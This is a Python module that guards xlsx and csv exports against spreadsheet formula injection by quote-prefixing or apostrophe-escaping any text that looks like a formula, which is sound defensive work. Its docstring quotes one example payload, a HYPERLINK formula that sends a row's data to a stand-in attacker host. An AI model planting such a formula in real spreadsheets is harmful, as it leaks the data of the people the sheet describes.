"""Cells that are safe to open: every export (xlsx or csv) writes its values through here.

A text typed by anyone (a visit note, a rectification, a project field, a roster comment) that starts
like a formula -- = + - @ tab or CR -- must never run as one in the reader's spreadsheet (OWASP CSV /
formula injection: `=HYPERLINK("http://evil.example/?d="&B3, ...)` leaks the row it sits in). Such a
text is written as a string with Excel's quote prefix (xlsx: the cell shows and keeps exactly what was
typed, and stays text when edited) or with a leading apostrophe (csv, which has no cell types). Numbers,
dates and booleans stay what they are.
"""

from __future__ import annotations

from typing import Any

RISKY_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(RISKY_START)


def csv_value(value: Any) -> Any:
    """A csv field: a formula-like text gets a leading apostrophe (OWASP)."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values) -> list[Any]:
    return [csv_value(v) for v in values]


def xlsx_cell(ws, value: Any, *, number_format: str | None = None) -> Any:
    """A value for an openpyxl sheet (write-only or not): a formula-like text becomes a WriteOnlyCell
    typed as a string with the quote prefix; other values are returned as they are (numbers stay
    numbers) unless a number format is asked for."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    risky = is_formula_like(value) or (isinstance(value, str) and value in ERROR_CODES)
    if not risky and number_format is None:
        return value
    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl would otherwise store "=..." as a formula, "#N/A" as an error
    if risky:
        cell.quotePrefix = True
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(ws, values) -> list[Any]:
    """A row for `ws.append()` (openpyxl), every text cell neutralised."""
    return [xlsx_cell(ws, v) if isinstance(v, str) else v for v in values]
